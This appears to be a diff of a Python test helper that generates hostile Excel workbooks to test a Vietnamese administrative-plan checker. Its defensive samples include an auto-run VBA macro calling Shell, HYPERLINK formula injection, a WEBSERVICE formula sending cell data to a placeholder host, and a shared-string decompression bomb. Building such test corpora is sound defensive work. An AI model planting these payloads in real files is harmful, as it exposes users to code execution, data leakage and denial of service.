@@ -1,4 +1,4 @@
-"""Generate the hostile-input corpus: `python tests/make_corpus.py [DIR]` (default tests/corpus).
+"""The hostile-input corpus: `python -m tests.support.corpus DIR` writes it (the tests build it in a temporary folder).
 
 Every case is written by code here (no hand-made binaries) and carries its expected
 outcome: the exit code of `cchc-xl check`, finding codes that must (or must not) appear,
@@ -17,14 +17,11 @@ from pathlib import Path
 
 import openpyxl
 
-ROOT = Path(__file__).resolve().parents[1]
-sys.path.insert(0, str(ROOT))
-
-from cchc_xl.excel.vba.cfb import write_cfb  # noqa: E402
-from cchc_xl.core.encodings import TCVN3, VNI, encode  # noqa: E402
+from cchc_xl.core.encodings import TCVN3, VNI, encode
+from cchc_xl.excel.vba.cfb import write_cfb
+from tests.support.workbooks import TITLE, sheet_workbook
 
 HEADER = ["STT", "Nhiệm vụ", "Sản phẩm", "Đơn vị chủ trì", "Đơn vị phối hợp", "Thời gian hoàn thành", "Kinh phí"]
-TITLE = "KẾ HOẠCH CẢI CÁCH HÀNH CHÍNH NĂM 2020"
 
 
 def task(i: int, lead: str | None = "Văn phòng Sở", deadline: object = "Quý II/2020", budget: object = 1_000_000):
@@ -56,19 +53,6 @@ def case(name: str, exit: int, **kw):
 
 
 BUILDERS: dict[str, object] = {}
-
-
-def sheet_book(rows: list[list], title: str | None = TITLE, sheet: str = "Phụ lục", start: int = 3):
-    wb = openpyxl.Workbook()
-    ws = wb.active
-    ws.title = sheet
-    if title:
-        ws["A1"] = title
-    for i, row in enumerate(rows):
-        for j, v in enumerate(row):
-            if v is not None:
-                ws.cell(start + i, j + 1, v)
-    return wb
 
 
 def rewrite(path: Path, part: str, edit) -> None:
@@ -115,7 +99,7 @@ def with_shared_strings(path: Path, strings: list[str], cells: dict[str, int]) -
 
 
 def good(path: Path) -> None:
-    sheet_book([HEADER] + [task(i) for i in range(1, 4)]).save(path)
+    sheet_workbook([HEADER] + [task(i) for i in range(1, 4)]).save(path)
 
 
 # --------------------------------------------------------------------------- not a workbook
@@ -195,12 +179,12 @@ def _(path):
 
 @case("only-headings.xlsx", 0, tasks=0)
 def _(path):
-    sheet_book([HEADER, ["I", "CẢI CÁCH THỂ CHẾ"], ["II", "CẢI CÁCH THỦ TỤC HÀNH CHÍNH"]]).save(path)
+    sheet_workbook([HEADER, ["I", "CẢI CÁCH THỂ CHẾ"], ["II", "CẢI CÁCH THỦ TỤC HÀNH CHÍNH"]]).save(path)
 
 
 @case("no-period.xlsx", 2, message="--period")
 def _(path):
-    sheet_book([HEADER, task(1)], title="PHỤ LỤC NHIỆM VỤ").save(path)
+    sheet_workbook([HEADER, task(1)], title="PHỤ LỤC NHIỆM VỤ").save(path)
 
 
 @case("second-sheet.xlsx", 0, tasks=3)
@@ -218,7 +202,7 @@ def _(path):
 
 @case("header-row-15.xlsx", 0, tasks=2)
 def _(path):
-    wb = sheet_book([HEADER, task(1), task(2)], start=15)
+    wb = sheet_workbook([HEADER, task(1), task(2)], start=15)
     for r in range(2, 14):
         wb.active.cell(r, 1, f"Đoạn văn của kế hoạch, dòng {r}.")
     wb.save(path)
@@ -229,12 +213,12 @@ def _(path):
     header = ["Ghi chú", "Thời gian hoàn thành", "Mã nội bộ", "Đơn vị chủ trì", "STT", "Nội dung", "Sản phẩm", "Cột thừa"]
     rows = [header, ["", "Quý I/2020", "X1", "Thanh tra Sở", 1, "Thanh tra công vụ", "Kết luận", "???"],
             ["", "Quý II/2020", "X2", None, 2, "Kiểm tra nội vụ", "Báo cáo", 42]]
-    sheet_book(rows).save(path)
+    sheet_workbook(rows).save(path)
 
 
 @case("hidden-rows-columns.xlsx", 1, codes={"lead-unit-missing"}, tasks=4)
 def _(path):
-    wb = sheet_book([HEADER] + [task(i) for i in range(1, 4)] + [task(4, lead=None)])
+    wb = sheet_workbook([HEADER] + [task(i) for i in range(1, 4)] + [task(4, lead=None)])
     ws = wb.active
     ws.row_dimensions[5].hidden = True
     ws.row_dimensions[7].hidden = True
@@ -246,7 +230,7 @@ def _(path):
 def _(path):
     rows = [HEADER, ["I CẢI CÁCH THỂ CHẾ"], task(1), task(2, lead=None, deadline=None), task(3),
             task(4, lead=None)]
-    wb = sheet_book(rows)
+    wb = sheet_workbook(rows)
     ws = wb.active
     ws.merge_cells("A4:G4")          # a heading across the table
     ws.merge_cells("D5:D6")          # one lead for two tasks
@@ -257,7 +241,7 @@ def _(path):
 
 @case("formulas-cached.xlsx", 0, tasks=2, absent={"budget-not-numeric", "task-missing"})
 def _(path):
-    wb = sheet_book([HEADER, task(1, budget=None), task(2, budget=None)])
+    wb = sheet_workbook([HEADER, task(1, budget=None), task(2, budget=None)])
     ws = wb.active
     ws["G4"] = "=1000*5000"
     ws["G5"] = "=G4*2"
@@ -275,7 +259,7 @@ def _(path):
 
 @case("formula-errors.xlsx", 1, codes={"formula-error"}, absent={"budget-not-numeric", "lead-unit-unknown"}, tasks=2)
 def _(path):
-    wb = sheet_book([HEADER, task(1, budget=None), task(2, lead=None)])
+    wb = sheet_workbook([HEADER, task(1, budget=None), task(2, lead=None)])
     ws = wb.active
     ws["G4"] = "=1/0"
     ws["D5"] = "=#REF!"
@@ -290,12 +274,12 @@ def _(path):
 
 @case("numbers-as-text.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
 def _(path):
-    sheet_book([HEADER, task("1", budget="15000000"), task("2", budget=2_000_000)]).save(path)
+    sheet_workbook([HEADER, task("1", budget="15000000"), task("2", budget=2_000_000)]).save(path)
 
 
 @case("dates-as-text-and-serials.xlsx", 0, tasks=3, absent={"deadline-unparsed", "deadline-out-of-period"})
 def _(path):
-    sheet_book([HEADER, task(1, deadline="30/06/2020"), task(2, deadline=43921),
+    sheet_workbook([HEADER, task(1, deadline="30/06/2020"), task(2, deadline=43921),
                 task(3, deadline=dt.datetime(2020, 9, 30))]).save(path)
 
 
@@ -326,12 +310,12 @@ def _(path):
 @case("long-cells.xlsx", 1, codes={"lead-unit-unknown", "deadline-unparsed"}, tasks=2)
 def _(path):
     long = ("Nội dung rất dài, " * 2000)[:32767]
-    sheet_book([HEADER, [1, long, long, long, long, long, long], task(2)]).save(path)
+    sheet_workbook([HEADER, [1, long, long, long, long, long, long], task(2)]).save(path)
 
 
 @case("formula-injection.xlsx", 1, tasks=2)
 def _(path):
-    wb = sheet_book([HEADER, task(1), task(2, lead=None)])
+    wb = sheet_workbook([HEADER, task(1), task(2, lead=None)])
     cell = wb.active["B4"]
     cell.value, cell.data_type = '=HYPERLINK("http://example.invalid","bấm vào")', "s"
     wb.save(path)
@@ -339,12 +323,12 @@ def _(path):
 
 @case("weird-sheet-name.xlsx", 1, codes={"lead-unit-missing"}, tasks=2)
 def _(path):
-    sheet_book([HEADER, task(1), task(2, lead=None)], sheet="Phụ lục (bản 2)'s").save(path)
+    sheet_workbook([HEADER, task(1), task(2, lead=None)], sheet="Phụ lục (bản 2)'s").save(path)
 
 
 @case("far-column.xlsx", 0, tasks=1)
 def _(path):
-    wb = sheet_book([HEADER, task(1)])
+    wb = sheet_workbook([HEADER, task(1)])
     wb.active["XFD2"] = "ô ở cột cuối cùng"
     wb.save(path)
 
@@ -353,7 +337,7 @@ def _(path):
 def _(path):
     from openpyxl.chart import BarChart, Reference
 
-    wb = sheet_book([HEADER, task(1), task(2)])
+    wb = sheet_workbook([HEADER, task(1), task(2)])
     chart = BarChart()
     chart.add_data(Reference(wb.active, min_col=7, min_row=3, max_row=5), titles_from_data=True)
     wb.create_chartsheet("Biểu đồ").add_chart(chart)
@@ -365,7 +349,7 @@ def _(path):
     import unicodedata
 
     nfd = lambda t: unicodedata.normalize("NFD", t)  # noqa: E731
-    sheet_book([[nfd(h) for h in HEADER], task(1, lead=nfd("Thanh tra Sở")), task(2, lead=nfd("Phòng Pháp chế"))],
+    sheet_workbook([[nfd(h) for h in HEADER], task(1, lead=nfd("Thanh tra Sở")), task(2, lead=nfd("Phòng Pháp chế"))],
                title=nfd(TITLE)).save(path)
 
 
@@ -373,7 +357,7 @@ def _(path):
 def _(path):
     enc = lambda t: encode(t, TCVN3)  # noqa: E731
     header = [enc(h.lower()).upper() if h == "STT" else enc(h) for h in HEADER]
-    sheet_book([header, [1, enc("Rà soát thủ tục hành chính"), enc("Báo cáo"), enc("Văn phòng Sở"),
+    sheet_workbook([header, [1, enc("Rà soát thủ tục hành chính"), enc("Báo cáo"), enc("Văn phòng Sở"),
                          enc("Thanh tra Sở"), enc("Quý II/2020"), 1000],
                 [2, enc("Tuyên truyền cải cách hành chính"), enc("Kế hoạch"), None, enc("Các phòng, đơn vị thuộc Sở"),
                  enc("Năm 2020"), 2000]], title=enc("Kế hoạch cải cách hành chính năm 2020")).save(path)
@@ -383,7 +367,7 @@ def _(path):
 def _(path):
     enc = lambda t: encode(t, VNI)  # noqa: E731
     header = [enc(h) for h in HEADER]
-    sheet_book([header, [1, enc("Rà soát thủ tục hành chính"), enc("Báo cáo"), enc("Phòng Kế hoạch - Tài chính"),
+    sheet_workbook([header, [1, enc("Rà soát thủ tục hành chính"), enc("Báo cáo"), enc("Phòng Kế hoạch - Tài chính"),
                          enc("Văn phòng Sở"), enc("Quý III/2020"), 1000],
                 [2, enc("Kiểm tra công vụ"), enc("Kết luận"), enc("Thanh tra Sở"), enc("Văn phòng Sở"),
                  enc("Tháng 10/2020"), 2000]], title=enc("Kế hoạch cải cách hành chính năm 2020")).save(path)
@@ -392,15 +376,15 @@ def _(path):
 @case("macro.xlsm", 1, codes={"lead-unit-missing"}, tasks=2)
 def _(path):
     """An .xlsm whose Auto_Open would run a shell: it is read, never run."""
-    from cchc_xl.excel.vba.project import Module, read_project, write_project
     from cchc_xl.excel.build import xlwings_template
+    from cchc_xl.excel.vba.project import Module, read_project, write_project
 
     with zipfile.ZipFile(xlwings_template()) as z:
         project = read_project(z.read("xl/vbaProject.bin"))
     evil = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n    Shell "cmd /c echo pwned"\r\nEnd Sub\r\n'
     project.modules = [m for m in project.modules if m.name in ("ThisWorkbook", "Sheet2")] + [Module("Module1", evil)]
     buf = io.BytesIO()
-    sheet_book([HEADER, task(1), task(2, lead=None)]).save(buf)
+    sheet_workbook([HEADER, task(1), task(2, lead=None)]).save(buf)
     with zipfile.ZipFile(buf) as z:
         parts = {n: z.read(n) for n in z.namelist()}
     parts["xl/vbaProject.bin"] = write_project(project, "VBAProject")
@@ -420,14 +404,14 @@ def _(path):
 
 @case("legacy-layout.xlsx", 1, codes={"deadline-out-of-period"}, tasks=17, absent={"lead-unit-missing"})
 def _(path):
-    from tests.legacy import write_legacy
+    from tests.support.legacy import write_legacy
 
     write_legacy(path, merge_headings=True)
 
 
 @case("two-row-header.xlsx", 1, codes={"lead-unit-missing", "row-fragment"}, tasks=6)
 def _(path):
-    from tests.builders import two_row_header_merged_areas
+    from tests.support.builders import two_row_header_merged_areas
 
     two_row_header_merged_areas(path)
 
@@ -463,7 +447,7 @@ def _(path):
 @case("bad-marks-memory.xlsx", 1, codes={"lead-unit-missing"}, tasks=2)
 def _(path):
     """An annotated copy whose hidden memory sheet was edited: cells that cannot exist, a broken fill."""
-    wb = sheet_book([HEADER, task(1), task(2, lead=None)])
+    wb = sheet_workbook([HEADER, task(1), task(2, lead=None)])
     memory = wb.create_sheet("_cchc_marks")
     for row in (["sheet", "cell", "fill", "comment", "author"], ["Phụ lục", "A0", "", None, None],
                 ["Phụ lục", "ZZZZ9", "{hỏng", "x", None], ["Không có", "A1", "", None, None], [42, None, 7, 8, 9]):
@@ -475,18 +459,18 @@ def _(path):
 @case("control-character-escape.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
 def _(path):
     """Excel writes a control character in a cell as _x0001_: read, reported, never written back raw."""
-    sheet_book([HEADER, task(1, budget=None), task(2)]).save(path)
+    sheet_workbook([HEADER, task(1, budget=None), task(2)]).save(path)
     with_shared_strings(path, ["15.000.000 đồng_x0001_ theo dự toán"], {"G4": 0})
 
 
 @case("budget-309-nines.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
 def _(path):
-    sheet_book([HEADER, task(1, budget="9" * 309), task(2)]).save(path)
+    sheet_workbook([HEADER, task(1, budget="9" * 309), task(2)]).save(path)
 
 
 @case("budget-infinite.xlsx", 0, codes={"budget-implausible"}, tasks=2)
 def _(path):
-    sheet_book([HEADER, task(1, budget=12345), task(2)]).save(path)
+    sheet_workbook([HEADER, task(1, budget=12345), task(2)]).save(path)
     rewrite(path, "xl/worksheets/sheet1.xml", lambda s: s.replace("<v>12345</v>", "<v>1e999</v>"))
 
 
@@ -505,13 +489,13 @@ def _(path):
 
 @case("numbers-in-name-cells.xlsx", 1, codes={"lead-unit-unknown"}, tasks=2)
 def _(path):
-    sheet_book([HEADER, [1, "Rà soát thủ tục", 42, 12345, 7, "Quý II/2020", 1000], task(2)]).save(path)
+    sheet_workbook([HEADER, [1, "Rà soát thủ tục", 42, 12345, 7, "Quý II/2020", 1000], task(2)]).save(path)
 
 
 @case("shared-string-bomb.xlsx", 2, message="quá nhiều chữ")
 def _(path):
     """117 KB that decodes to 650 MB: one 32,767-character string referenced by 20,000 cells."""
-    sheet_book([HEADER, task(1)]).save(path)
+    sheet_workbook([HEADER, task(1)]).save(path)
     with_shared_strings(path, ["x" * 32767], {f"B{r}": 0 for r in range(5, 20005)})
 
 
@@ -519,13 +503,13 @@ def _(path):
 def _(path):
     """Page-break rows that join into a 64,000-character task (over a cell's 32,767)."""
     part = "tiếp tục rà soát các văn bản " * 1100
-    sheet_book([HEADER, task(1), [None, part[:32000]], [None, part[:32000]]]).save(path)
+    sheet_workbook([HEADER, task(1), [None, part[:32000]], [None, part[:32000]]]).save(path)
 
 
 @case("property-formula.xlsx", 0, tasks=1)
 def _(path):
     """Hidden template properties that look like formulas: copied as text, never as formulas."""
-    wb = sheet_book([HEADER, task(1)])
+    wb = sheet_workbook([HEADER, task(1)])
     props = wb.create_sheet("_cchc")
     for key, value in (("template_version", '=WEBSERVICE("http://example.invalid/?"&A1)'), ("period", "2020"),
                        ("unit", "=1+1")):
@@ -535,19 +519,16 @@ def _(path):
     wb.save(path)
 
 
-def build(folder: Path, include_slow: bool = True) -> list[Case]:
+def build(folder: Path) -> list[Case]:
+    """Write every case into ``folder``; the cases, with their expected outcomes."""
     folder.mkdir(parents=True, exist_ok=True)
     for c in CASES:
-        target = folder / c.name
-        if c.slow and not include_slow:
-            continue
-        if c.slow and target.exists():
-            continue
-        BUILDERS[c.name](target)
+        BUILDERS[c.name](folder / c.name)
     return CASES
 
 
 if __name__ == "__main__":
-    out = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "tests" / "corpus"
-    for c in build(out):
+    if len(sys.argv) != 2:
+        sys.exit("usage: python -m tests.support.corpus DIR")
+    for c in build(Path(sys.argv[1])):
         print(f"{c.name:34} exit {c.exit}  {sorted(c.codes) or c.message}")
